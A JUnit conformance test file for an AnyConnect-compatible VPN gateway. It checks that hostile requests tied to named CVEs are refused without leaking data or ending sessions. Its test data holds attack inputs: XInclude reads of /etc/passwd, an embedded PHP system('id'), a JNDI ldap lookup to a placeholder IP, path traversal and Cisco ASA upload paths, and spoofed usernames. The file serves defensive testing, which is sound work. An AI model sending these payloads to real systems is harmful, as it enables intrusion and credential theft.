package io.sallyport.server.conformance;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.sallyport.server.testkit.ConfigAuth;
import io.sallyport.server.testkit.HttpConnection;
import io.sallyport.server.testkit.HttpReply;
import io.sallyport.server.testkit.HttpRequest;
import io.sallyport.server.testkit.TestGateway;
import io.sallyport.server.testkit.Tunnel;
import io.sallyport.server.testkit.XmlReply;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What has brought down, opened or read out other gateways, by classes. Names begin with the class's number. */
class HostileRequestsTest {
    private static final byte[] PROFILE = """
            <?xml version="1.0" encoding="UTF-8"?>
            <AnyConnectProfile xmlns="http://schemas.xmlsoap.org/encoding/"><ServerList/></AnyConnectProfile>
            """.getBytes(UTF_8);
    private static final String PROFILE_PATH = "/profiles/office.xml";
    private static final String ABSENT = "";

    @RegisterExtension
    static final TestGateway gateway = TestGateway.standard()
            .withFile("office.xml", PROFILE)
            .with("downloads", "{profiles: {office.xml: office.xml}}")
            .with("policies", "{office: {client-profile: office.xml, simultaneous-sessions: 0}}")
            .with("limits", "{requests-per-connection: 10000}");

    private static String living = "";
    private static String ended = "";

    @BeforeAll
    static void signIn() throws Exception {
        living = gateway.signIn();
        ended = gateway.signIn();
        gateway.ask(HttpRequest.post("/", ConfigAuth.logout(ended)));
    }

    // ---- XML

    /** CVE-2018-0101: in any order and number, what is not expected changes nothing of a sign-in. */
    @Test
    void rt01MessagesInAnyOrderChangeNothing() throws Exception {
        try (HttpConnection connection = gateway.connect()) {
            String handle = connection
                    .send(HttpRequest.post("/", ConfigAuth.init()))
                    .xml()
                    .handle();
            for (String element : List.of(
                    "<host-scan-reply/>",
                    "<host-scan-reply></host-scan-reply><host-scan-reply></host-scan-reply>",
                    "<host-scan-reply><host-scan-reply><host-scan-token>1</host-scan-token></host-scan-reply></host-scan-reply>",
                    "<host-scan-token/><host-scan-token>x</host-scan-token>",
                    "<host-scan><host-scan-ticket>t</host-scan-ticket></host-scan>",
                    "<host-scan-reply>" + "x".repeat(60_000) + "</host-scan-reply>")) {
                for (String type : List.of("init", "auth-reply", "logout")) {
                    String document = "<config-auth type=\"" + type + "\">" + element + "</config-auth>";
                    assertThat(gateway.ask(HttpRequest.post("/", document)).status())
                            .as("%s in %s", element, type)
                            .isIn(200, 400);
                }
            }
            for (String type : List.of("complete", "auth-request", "host-scan-reply", "", "INIT")) {
                String document = "<config-auth type=\"" + type + "\"/>";
                assertThat(gateway.ask(HttpRequest.post("/", document)).status())
                        .as(type)
                        .isEqualTo(400);
            }

            HttpReply complete = connection.send(
                    HttpRequest.post("/", ConfigAuth.reply(handle, TestGateway.USER, TestGateway.PASSWORD)));
            assertThat(complete.xml().type()).isEqualTo("complete");
        }
    }

    /** CVE-2018-0101: a reply cut anywhere is refused, and the sign-in that it belongs to goes on. */
    @Test
    void rt01AReplyThatIsCutAnywhereIsRefused() throws Exception {
        XmlReply form = gateway.form();
        byte[] whole = ConfigAuth.reply(form.handle(), TestGateway.USER, TestGateway.PASSWORD)
                .getBytes(UTF_8);
        for (int length = 0; length < whole.length; length += 3) {
            String cut = new String(whole, 0, length, UTF_8);
            assertThat(gateway.ask(HttpRequest.post("/", cut)).status())
                    .as("length %d", length)
                    .isEqualTo(400);
        }
        assertThat(gateway.ask(HttpRequest.post("/", new String(whole, UTF_8)))
                        .xml()
                        .type())
                .isEqualTo("complete");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<c xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd' parse='text'/></c>",
                "<?xml-stylesheet href='file:///etc/passwd'?><c/>",
                "<config-auth type='init'><?php system('id') ?><group-select>&lt;</group-select></config-auth><x/>",
                "+ADw-config-auth type='init'/+AD4-",
                "<config-auth type='init' xmlns='urn:a' xmlns:b='urn:b' b:type='x'/>",
                "<config-auth type='init'>]]></config-auth>",
                "<config-auth type='init'><![CDATA[",
                "<config-auth type='init'><!-- -- --></config-auth>",
                "<config-auth type='init'>\u0001</config-auth>",
                "<config-auth type='init'>&#xFFFFFFFF;</config-auth>"
            })
    void rt35WhatIsNoMessageIsRefused(String document) throws Exception {
        HttpReply reply = gateway.ask(HttpRequest.post("/", document));

        assertThat(reply.status()).isEqualTo(400);
        assertThat(reply.body()).isEmpty();
    }

    @Test
    void rt35NamesAndSpacesOfNamesAreBounded() throws Exception {
        StringBuilder spaces = new StringBuilder();
        for (int i = 0; i < 10_000; i++) {
            spaces.append(" xmlns:n").append(i).append("='u'");
        }
        for (String document : List.of(
                "<config-auth type='init'" + spaces + "/>",
                "<config-auth type='init'><" + "n".repeat(100_000) + "/></config-auth>",
                "<config-auth type='init' a='" + "x".repeat(100_000) + "'/>",
                "<config-auth type='init'>" + "<a>".repeat(50_000) + "</config-auth>")) {
            assertThat(gateway.ask(HttpRequest.post("/", document)).status())
                    .as(document.substring(0, 40))
                    .isEqualTo(400);
        }
    }

    // ---- names

    /** ocserv before 1.5.1: a name is compared with names, and is neither a path nor anybody it only looks like. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "../" + TestGateway.USER,
                "./" + TestGateway.USER,
                TestGateway.USER + "/",
                TestGateway.USER + "/../" + TestGateway.USER,
                TestGateway.USER + "%00",
                TestGateway.USER + "\u200b", // zero width space
                TestGateway.USER + "\u00a0", // no-break space
                "\u202e" + TestGateway.USER, // right to left from here on
                "\u0430lice", // Cyrillic a
                "\uff41\uff4c\uff49\uff43\uff45", // full width
                ".",
                "..",
                "a/b",
                "*",
                "'; --"
            })
    void rt29ANameIsNobodyElse(String name) throws Exception {
        assertIsNobody(name);
    }

    /** The same of names longer than any. */
    @Test
    void rt29ALongNameIsNobody() throws Exception {
        for (String name : List.of("u".repeat(300), TestGateway.USER.repeat(60), "\u00e9".repeat(300))) {
            assertIsNobody(name);
        }
    }

    private static void assertIsNobody(String name) throws IOException {
        XmlReply form = gateway.form();
        XmlReply refused = gateway.ask(
                        HttpRequest.post("/", ConfigAuth.reply(form.handle(), name, TestGateway.PASSWORD)))
                .xml();
        assertThat(refused.type()).isEqualTo("auth-request");
        assertThat(refused.hasForm()).isTrue();

        HttpReply list = gateway.ask(HttpRequest.post("/", ConfigAuth.init(ConfigAuth.groupSelect(name))));
        assertThat(list.status()).isEqualTo(200);
        assertThat(list.xml().hasForm()).isTrue();
        assertThat(list.text()).doesNotContain(">" + name + "<");
    }

    // ---- paths

    /** CVE-2020-3259, CVE-2023-4966: what is answered to one never holds what another has sent. */
    @Test
    void rt04NoAnswerHoldsWhatAnotherHasSent() throws Exception {
        String canary = "canary7F3A";
        List<String> malformed = List.of(
                "/%",
                "/%zz", "/\u00ff\u00fe", "/a b", "/" + "%41".repeat(2000), "/?" + "x".repeat(4000), "//", "/./", "\\");
        try (ExecutorService threads = Executors.newFixedThreadPool(4)) {
            List<Future<List<String>>> answers = new ArrayList<>();
            for (int client = 0; client < 8; client++) {
                boolean tells = client % 2 == 0;
                answers.add(threads.submit(() -> tells ? tell(canary) : ask(malformed)));
            }
            for (Future<List<String>> answer : answers) {
                assertThat(answer.get()).noneMatch(text -> text.contains(canary));
            }
        }
    }

    private static List<String> tell(String canary) throws IOException {
        String secret = canary.repeat(20);
        for (int i = 0; i < 100; i++) {
            gateway.ask(HttpRequest.post("/", ConfigAuth.replyWithoutHandle(secret, secret))
                    .with("X-Canary: " + secret, "Cookie: webvpn=" + secret));
        }
        return List.of();
    }

    private static List<String> ask(List<String> paths) throws IOException {
        List<String> answers = new ArrayList<>();
        for (int i = 0; i < 100; i++) {
            answers.add(
                    gateway.ask(HttpRequest.get(paths.get(i % paths.size()))).toString());
        }
        return answers;
    }

    /** CVE-2025-20362, CVE-2025-20333: what a path leads to depends on the cookie for the profile only; the rest is nothing. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                PROFILE_PATH,
                "/CACHE/stc/profiles/office.xml",
                "/+CSCOU+//../+CSCOE+/files/file_action.html?mode=upload&path=foo&server=bar",
                "/+CSCOE+/files/file_list.json?path=/sessions",
                "/+CSCOE+/portal.html",
                "/+CSCOE+/session_password.html",
                "/+CSCOE+/saml/sp/login",
                "/+CSCOCA+/login.html",
                "/admin",
                "/metrics",
                "/sessions",
                "/api/users",
                "/profiles/",
                "/profiles",
                "/CACHE/",
                "/1/../profiles/office.xml",
                "/sallyport.yaml",
                "/control.sock"
            })
    void rt21WhatIsNotGrantedIsNotThere(String path) throws Exception {
        boolean profile = path.equals(PROFILE_PATH) || path.equals("/CACHE/stc/profiles/office.xml");
        for (String cookie : List.of(ABSENT, "A".repeat(living.length()), ended, living)) {
            boolean granted = profile && cookie.equals(living);
            HttpRequest request = HttpRequest.get(path);
            HttpReply reply = gateway.ask(cookie.isEmpty() ? request : request.with("Cookie: webvpn=" + cookie));
            assertThat(reply.status()).as("cookie %s", cookie).isEqualTo(granted ? 200 : 404);
            assertThat(reply.body()).isEqualTo(granted ? PROFILE : new byte[0]);

            // Whatever the path, a POST is a sign-in and nothing else.
            HttpReply posted = gateway.ask(HttpRequest.post(path, "name=x&upload=y")
                    .with(cookie.isEmpty() ? "X-None: 1" : "Cookie: webvpn=" + cookie));
            assertThat(posted.status()).isIn(200, 400);
            assertThat(posted.text()).doesNotContain("session-token", "AnyConnectProfile");
        }
    }

    // ---- headers

    private static final List<String> HEADERS = List.of(
            "Accept",
            "Accept-Encoding",
            "Authorization",
            "Connection",
            "Content-Type",
            "Expect",
            "Forwarded",
            "If-Modified-Since",
            "If-None-Match",
            "If-Range",
            "Origin",
            "Range",
            "Referer",
            "TE",
            "Upgrade",
            "X-Aggregate-Auth",
            "X-AnyConnect-Identifier-ClientVersion",
            "X-AnyConnect-Identifier-DeviceType",
            "X-AnyConnect-Identifier-Platform",
            "X-AnyConnect-Platform",
            "X-AnyConnect-STRAP-DH-Pubkey",
            "X-AnyConnect-STRAP-Pubkey",
            "X-AnyConnect-STRAP-Verify",
            "X-Forwarded-For",
            "X-Pad",
            "X-Support-HTTP-Auth",
            "X-Transcend-Version");

    private static final List<String> TUNNEL_HEADERS = List.of(
            "User-Agent",
            "X-AnyConnect-Identifier-Platform",
            "X-AnyConnect-STRAP-Pubkey",
            "X-AnyConnect-STRAP-Verify",
            "X-CSTP-Accept-Encoding",
            "X-CSTP-Address",
            "X-CSTP-Address-Type",
            "X-CSTP-Base-MTU",
            "X-CSTP-FIPS-Mode",
            "X-CSTP-Full-IPv6-Capability",
            "X-CSTP-Hostname",
            "X-CSTP-License",
            "X-CSTP-Local-Address-IP4",
            "X-CSTP-MTU",
            "X-CSTP-Protocol",
            "X-CSTP-TCP-Keepalive",
            "X-CSTP-Version",
            "X-DTLS-Accept-Encoding",
            "X-DTLS-CipherSuite",
            "X-DTLS-Header-Pad-Length",
            "X-DTLS-Master-Secret",
            "X-DTLS12-CipherSuite");

    private static final List<String> VALUES = List.of(
            "",
            " ",
            "-1",
            "2147483648",
            "99999999999999999999",
            "NaN",
            "1e9",
            "\u00ff\u00fe\u0080",
            "%s%n%x${jndi:ldap://192.0.2.1/a}",
            "../../etc/passwd",
            "a,b;c:d=e,,;;::==",
            "0x" + "F".repeat(96),
            "1".repeat(12_000));

    /** CVE-2025-20133 and its like, before a sign-in: any header with any value is an oddity, and not more. */
    @Test
    void rt20AnyHeaderBeforeASignIn() throws Exception {
        for (String name : HEADERS) {
            for (String value : VALUES) {
                for (HttpRequest request :
                        List.of(HttpRequest.get(PROFILE_PATH), HttpRequest.get("/1/VPNManifest.xml"))) {
                    assertThat(gateway.ask(request.with(name + ": " + value)).status())
                            .as("%s: %s", name, value)
                            .isIn(200, 400, 404);
                }
                HttpRequest init = HttpRequest.post("/", ConfigAuth.init()).without(name);
                assertThat(gateway.ask(init.with(name + ": " + value, name + ": 1"))
                                .status())
                        .as("%s: %s, twice", name, value)
                        .isIn(200, 400, 417);
            }
        }
        assertThat(gateway.form().hasForm()).isTrue();
    }

    /** The same behind a sign-in: CONNECT makes something sensible of it, and the session stays. */
    @Test
    void rt20AnyHeaderOfConnect() throws Exception {
        for (String name : TUNNEL_HEADERS) {
            for (String value : VALUES) {
                HttpReply reply = gateway.tryConnect(living, name + ": " + value, name + ": 1");
                assertThat(reply.status()).as("%s: %s", name, value).isEqualTo(200);
                int mtu = Integer.parseInt(reply.one("X-CSTP-MTU").orElseThrow());
                assertThat(mtu).as("%s: %s", name, value).isBetween(576, 1406);
            }
        }
        try (Tunnel tunnel = gateway.tunnel(living)) {
            assertThat(tunnel.answers("the session is still there")).isTrue();
        }
    }
}
